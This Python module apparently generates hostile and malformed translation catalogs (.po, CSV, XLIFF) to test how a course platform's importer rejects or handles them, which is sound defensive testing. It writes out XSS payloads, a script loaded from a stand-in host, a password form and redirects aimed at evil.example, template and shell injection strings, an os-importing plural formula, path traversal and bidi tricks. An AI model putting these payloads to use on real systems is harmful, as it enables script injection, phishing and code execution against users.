"""Catalogs as somebody would send them who means harm, or whose tools broke them: each with the lines that are spoilt."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from xml.sax.saxutils import escape

BASE = "@BASE@"
"""Stands where a catalog says which edit it was downloaded at."""
_HEAD = ('msgid ""', 'msgstr ""', r'"Content-Type: text/plain; charset=UTF-8\n"', r'"Language: ar\n"')
_ENTRY = 4
"""Lines of an entry, the empty one behind it among them."""


@dataclass(frozen=True, slots=True)
class Message:
    """A message of the course, and a good text for it."""

    context: str
    source: str
    good: str


@dataclass(frozen=True, slots=True)
class HostileCatalog:
    """A catalog, and the lines that a refusal may name: of the spoilt entry, or ``(0, 1)`` for the file as a whole."""

    name: str
    file: str
    raw: bytes
    lines: tuple[int, int] = (0, 1)
    must_be_refused: bool = True


def quoted(text: str) -> str:
    """A string of a catalog."""
    told = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t").replace("\r", "\\r")
    return f'"{told}"'


def lines_of(messages: Sequence[Message], head: Sequence[str] = ()) -> list[str]:
    """The lines of a whole good catalog."""
    lines = [*_HEAD, *head, rf'"X-Coplearn-Base: {BASE}\n"', ""]
    for one in messages:
        lines += [f"msgctxt {quoted(one.context)}", f"msgid {quoted(one.source)}", f"msgstr {quoted(one.good)}", ""]
    return lines


def good_catalog(messages: Sequence[Message]) -> bytes:
    """A catalog with nothing wrong in it."""
    return "\n".join(lines_of(messages)).encode()


_BROKEN: Mapping[str, Callable[[str, str, str], Sequence[str | bytes]]] = {
    "text not closed": lambda c, i, s: (c, i, s[:-1]),
    "source not closed": lambda c, i, s: (c, i[:-1], s),
    "context not closed": lambda c, i, s: (c[:-1], i, s),
    "text not opened": lambda c, i, s: (c, i, s.replace('"', "", 1)),
    "quotes inside": lambda c, i, s: (c, i, f'{s[:-1]} "سطر" "'),
    "single quotes": lambda c, i, s: (c, i, s.replace('"', "'")),
    "curly quotes": lambda c, i, s: (c, i, s.replace('"', "”")),
    "backslash at the end": lambda c, i, s: (c, i, s[:-1] + '\\"'),
    "escape of nothing": lambda c, i, s: (c, i, s[:-1] + '\\q"'),
    "escape of Unicode": lambda c, i, s: (c, i, s[:-1] + '\\u202e"'),
    "escaped half a letter": lambda c, i, s: (c, i, s[:-1] + '\\xd9"'),
    "escaped NUL": lambda c, i, s: (c, i, s[:-1] + '\\0"'),
    "escaped NUL by x": lambda c, i, s: (c, i, s[:-1] + '\\x00"'),
    "NUL": lambda c, i, s: (c, i, s[:-1] + '\0"'),
    "half a letter": lambda c, i, s: (c, i, s.encode()[:-1] + b'\xd9"'),
    "Windows-1256": lambda c, i, s: (c, i, s.encode("cp1256", "replace")),
    "surrogate": lambda c, i, s: (c, i, s.encode()[:-1] + b'\xed\xa0\x80"'),
    "overlong slash": lambda c, i, s: (c, i, s.encode()[:-1] + b'\xc0\xaf"'),
    "beyond Unicode": lambda c, i, s: (c, i, s.encode()[:-1] + b'\xf4\x90\x80\x80"'),
    "conflict": lambda c, i, s: (c, i, "<<<<<<< ours\n" + s),
    "conflict's middle": lambda c, i, s: (c, i, s + "\n======="),
    "conflict's end": lambda c, i, s: (c, i, s + "\n>>>>>>> theirs"),
    "rubbish": lambda c, i, s: (c, i, s + "\nwhat is this"),
    "unknown word": lambda c, i, s: (c, i, s.replace("msgstr", "msgtext")),
    "no word": lambda c, i, s: (c, i, s.replace("msgstr ", "x ")),
    "numbered without plural": lambda c, i, s: (c, i, s.replace("msgstr", "msgstr[x]")),
    "number below nothing": lambda c, i, s: (c, i, s.replace("msgstr", "msgstr[-1]")),
    "number without end": lambda c, i, s: (c, i, s.replace("msgstr", "msgstr[99999999]")),
    "two plural forms": lambda c, i, s: (c, f"{i}\nmsgid_plural {i[6:]}", _numbered(s, 2)),
    "seven plural forms": lambda c, i, s: (c, f"{i}\nmsgid_plural {i[6:]}", _numbered(s, 7)),
    "plural of one text": lambda c, i, s: (c, f"{i}\nmsgid_plural {i[6:]}", _numbered(s, 6)),
    "twice": lambda c, i, s: (c, i, f"{s}\n\n{c}\n{i}\n{s}"),
    "twice, one empty": lambda c, i, s: (c, i, f'{s}\n\n{c}\n{i}\nmsgstr ""'),
    "of nowhere": lambda c, i, s: ('msgctxt "no-such#page"', i, s),
    "climbing": lambda c, i, s: ('msgctxt "../../course#title"', i, s),
}
"""An entry's three lines, broken."""


def _numbered(told: str, count: int) -> str:
    return "\n".join(told.replace("msgstr", f"msgstr[{number}]", 1) for number in range(count))


TEXTS: Mapping[str, Callable[[str], str]] = {
    "script": lambda t: f"{t}<script>alert(1)</script>",
    "script in capitals": lambda t: f"<SCRIPT SRC=//evil.example/a.js></SCRIPT>{t}",
    "half a script": lambda t: f"{t}<script",
    "image": lambda t: f"<img src=x onerror=alert(1)>{t}",
    "drawing": lambda t: f"<svg/onload=alert(1)>{t}",
    "frame": lambda t: f"<iframe srcdoc='<script>alert(1)</script>'></iframe>{t}",
    "end of the page": lambda t: f"</p></div></main></body></html>{t}",
    "handler": lambda t: f"<b onclick=alert(1)>{t}</b>",
    "style": lambda t: f"<style>*{{display:none}}</style>{t}",
    "styled": lambda t: f'<span style="position:fixed;inset:0">{t}</span>',
    "form": lambda t: f'<form action="//evil.example"><input name=password></form>{t}',
    "base": lambda t: f'<base href="//evil.example/">{t}',
    "refresh": lambda t: f'<meta http-equiv=refresh content="0;url=//evil.example">{t}',
    "open comment": lambda t: f"{t}<!-- ",
    "CDATA": lambda t: f"<![CDATA[{t}",
    "entities": lambda t: f"&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; {t}",
    "entity without end": lambda t: f"{t} &#x3C",
    "out of an attribute": lambda t: f'{t}" onfocus="alert(1)" autofocus="',
    "script as link": lambda t: f"[{t}](javascript:alert(1))",
    "script as link, hidden": lambda t: f"[{t}](java\tscript:alert(1))",
    "data as link": lambda t: f"[{t}](data:text/html;base64,PHNjcmlwdD4=)",
    "link elsewhere": lambda t: f"{t} [سطر](https://evil.example/)",
    "link of any scheme": lambda t: f"{t} [سطر](//evil.example/)",
    "link below another": lambda t: f"[{t} [سطر](https://evil.example/)](https://evil.example/)",
    "picture from elsewhere": lambda t: f"{t} ![سطر](https://evil.example/a.png)",
    "address": lambda t: f"{t} <https://evil.example/>",
    "bare address": lambda t: f"{t} https://evil.example/",
    "link by name": lambda t: f"[{t}][x]\n\n[x]: https://evil.example/",
    "look-alike host": lambda t: f"{t} [سطر](https://www.unісef.org/)",
    "heading": lambda t: f"# {t}",
    "heading below": lambda t: f"{t}\n===",
    "list": lambda t: f"- {t}\n- {t}",
    "quotation": lambda t: f"> {t}",
    "code": lambda t: f"```\n{t}\n```",
    "open code": lambda t: f"```\n{t}",
    "table": lambda t: f"| {t} |\n|---|\n| a |",
    "cell": lambda t: f"{t} | {t}",
    "box": lambda t: f":::support\n{t}\n:::",
    "end of a box": lambda t: f"{t}\n\n:::\n\n:::",
    "line across": lambda t: f"{t}\n\n---\n\n{t}",
    "id": lambda t: f"{t} {{#bcheaqg}}",
    "attributes": lambda t: f"{t} {{.hidden onclick=x}}",
    "named place": lambda t: f"{t} %(name)s",
    "place without a name": lambda t: f"{t} %s",
    "number's place": lambda t: f"{t} %d %x %n",
    "half a place": lambda t: f"{t} %(num",
    "percent": lambda t: f"{t} %",
    "place in braces": lambda t: f"{t} {{name.__class__.__mro__}}",
    "template": lambda t: f"{t} {{{{ config }}}}",
    "statement of a template": lambda t: f"{{% raw %}}{t}",
    "shell": lambda t: f"{t} ${{PATH}} $(id) `id`",
    "override": lambda t: f"\u202e{t}",
    "embedding": lambda t: f"{t}\u202a",
    "pop": lambda t: f"{t}\u202c",
    "open isolate": lambda t: f"\u2067{t}",
    "pop of an isolate": lambda t: f"{t}\u2069",
    "isolate over lines": lambda t: f"\u2066{t}\n\n{t}\u2069",
    "bell": lambda t: f"{t}\x07",
    "escape": lambda t: f"{t}\x1b[31m",
    "delete": lambda t: f"{t}\x7f",
    "control of Latin-1": lambda t: f"{t}\x9b31m",
    "next line": lambda t: f"{t}\x85{t}",
    "line separator": lambda t: f"{t}\u2028{t}",
    "lost letter": lambda t: f"{t}\ufffd",
    "mark inside": lambda t: f"{t}\ufeff{t}",
    "nothing": "\u200b".join,
    "soft hyphens": "\u00ad".join,
    "tags": lambda t: f"{t}\U000e0041\U000e007f",
    "private letters": lambda t: f"{t}\ue000\U0010fffd",
    "no letter": lambda t: f"{t}\ufffe\U0001ffff",
    "long": lambda t: f"{t} " * 2_000,
    "longer than kept": lambda t: f"{t} " + "س" * 120_000,
    "lines": lambda t: "\n".join([t] * 900),
    "brackets": lambda t: "[" * 3_000 + t,
    "links in links": lambda t: "[" * 500 + t + "](a)" * 500,
    "stars": lambda t: "*" * 3_000 + t,
    "stars in turn": lambda t: "*a_" * 1_000 + t,
    "backticks": lambda t: "".join("`" * number + " " for number in range(80)) + t,
    "quotations": lambda t: ">" * 3_000 + t,
    "deep lists": lambda t: "\n".join("  " * number + "- a" for number in range(150)) + t,
    "heap of marks": lambda t: t + "\u0654" * 900,
    "return": lambda t: f"{t}\r\n{t}",
    "only a sign": lambda t: ".",
    "open emphasis": lambda t: f"**{t}",
    "other quotes": lambda t: f"«{t}",
}  # fmt: skip
"""What a text may hold; some of it harms nobody and is taken."""


def broken_files(messages: Sequence[Message]) -> Iterator[HostileCatalog]:
    """Each way to break an entry, at the beginning and the end of a catalog."""
    for name, broken in _BROKEN.items():
        for place in (0, len(messages) - 1):
            lines: list[str | bytes] = [*lines_of(messages)]
            start = len(_HEAD) + 2 + place * _ENTRY
            context, source, text = (str(line) for line in lines[start : start + 3])
            spoilt = broken(context, source, text)
            lines[start : start + 3] = spoilt
            raw = b"\n".join(line if isinstance(line, bytes) else line.encode() for line in lines)
            last = start + 1 + sum(str(one).count("\n") + 1 for one in spoilt)
            yield HostileCatalog(f"{name} at {place}", "ar.po", raw, (start + 1, last))


def whole_files(messages: Sequence[Message]) -> Iterator[HostileCatalog]:
    """What is wrong with all of a file, or with its head."""
    good = good_catalog(messages)
    text = good.decode()
    for language in ("de", "ru", "../../ar", "ar\\0", "x" * 5_000, "<script>"):
        raw = text.replace("Language: ar", f"Language: {language}").encode()
        yield HostileCatalog(f"language {language[:9]}", "ar.po", raw, (1, 4))
    for name, raw in {
        "nothing": b"",
        "comments": b"# nothing\n#, fuzzy\n",
        "head alone": "\n".join(lines_of([])).encode(),
        "all obsolete": b"\n".join(b"#~ " + line for line in good.split(b"\n")[6:] if line),
        "page": b"<!DOCTYPE html>\n<html>" + good,
        "UTF-16": text.encode("utf-16"),
        "UTF-16 without its mark": text.encode("utf-16-be"),
        "UTF-32": text.encode("utf-32"),
        "Windows-1256": text.encode("cp1256", "replace"),
        "mark inside": good.replace(b"\n\n", b"\n\xef\xbb\xbf\n", 1),
        "packed": b"\x1f\x8b\x08" + good,
        "too large": good + b"# " + b"x" * 9_000_000,
        "one line too large": b'msgid "' + b"x" * 9_000_000 + b'"',
        "strangers' only": good.replace(b"msgctxt ", b"msgctxt ").replace(b"#", b"-of-another#"),
        "a program": b"\x7fELF" + bytes(200),
        "a compiled catalog": b"\xde\x12\x04\x95" + bytes(60),
        "ends of lines of old": good.replace(b"\n", b"\r"),
        "nested quotes": b'"' * 50_000,
        "backslashes": b'msgid "' + b"\\" * 50_001 + b'"',
    }.items():
        yield HostileCatalog(name, "ar.po", raw, (0, 1 if raw[:5] != b"msgid" else 9))
    yield HostileCatalog("not a catalog by its name", "ar.exe", good)
    yield HostileCatalog("no name", "", good)
    yield HostileCatalog("two marks", "ar.po", b"\xef\xbb\xbf\xef\xbb\xbf" + good, must_be_refused=False)
    for formula in ("nplurals=6; plural=" + "(" * 500 + "n**n**n" + ")" * 500, "nplurals=99; plural=__import__('os')"):
        raw = "\n".join(lines_of(messages, [rf'"Plural-Forms: {formula}\n"'])).encode()
        yield HostileCatalog(f"formula {formula[:12]}", "ar.po", raw, must_be_refused=False)


def hostile_texts(messages: Sequence[Message], targets: Sequence[str]) -> Iterator[HostileCatalog]:
    """Each of the texts at each of the targets (contexts), in catalogs, and in a table or an XLIFF in turn."""
    for number, (name, spoil) in enumerate(TEXTS.items()):
        for target in targets:
            place = next(at for at, one in enumerate(messages) if one.context == target)
            message = messages[place]
            spoilt = Message(target, message.source, spoil(message.good))
            changed = [*messages[:place], spoilt, *messages[place + 1 :]]
            start = len(_HEAD) + 3 + place * _ENTRY
            name_here = f"{name} in {target}"
            span = (start, start + 2)
            yield HostileCatalog(name_here, "ar.po", good_catalog(changed), span, must_be_refused=False)
            if target == targets[number % len(targets)]:
                raw, span = (_table if number % 2 else _xliff)(changed, place)
                file = "ar.csv" if number % 2 else "ar.xliff"
                yield HostileCatalog(f"{name_here}, {file}", file, raw, span, must_be_refused=False)


def _table(messages: Sequence[Message], place: int) -> tuple[bytes, tuple[int, int]]:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["context", "source", "translation", f"X-Coplearn-Base: {BASE}"])
    starts = []
    for one in messages:
        starts.append(out.getvalue().count("\n") + 1)
        writer.writerow([one.context, one.source, one.good])
    return out.getvalue().encode(), (starts[place], starts[place])


def _xliff(messages: Sequence[Message], place: int) -> tuple[bytes, tuple[int, int]]:
    lines = [
        '<?xml version="1.0"?><xliff version="1.2"><file source-language="en" target-language="ar" original="a">',
        f'<header><note from="X-Coplearn-Base">{BASE}</note></header><body>',
    ]
    starts, line = [], 3
    for one in messages:
        unit = (
            f'<trans-unit id="{escape(one.context)}" resname="{escape(one.context)}">'
            f"<source>{escape(one.source)}</source><target state='final'>{escape(one.good)}</target></trans-unit>"
        )
        starts.append(line)
        line += unit.count("\n") + 1
        lines.append(unit)
    raw = "\n".join([*lines, "</body></file></xliff>"]).encode()
    return raw, (starts[place], starts[place] + messages[place].good.count("\n") + messages[place].good.count("\r"))


def hostile_catalogs(messages: Sequence[Message], targets: Sequence[str]) -> list[HostileCatalog]:
    """All of them, none twice."""
    return [*broken_files(messages), *whole_files(messages), *hostile_texts(messages, targets)]
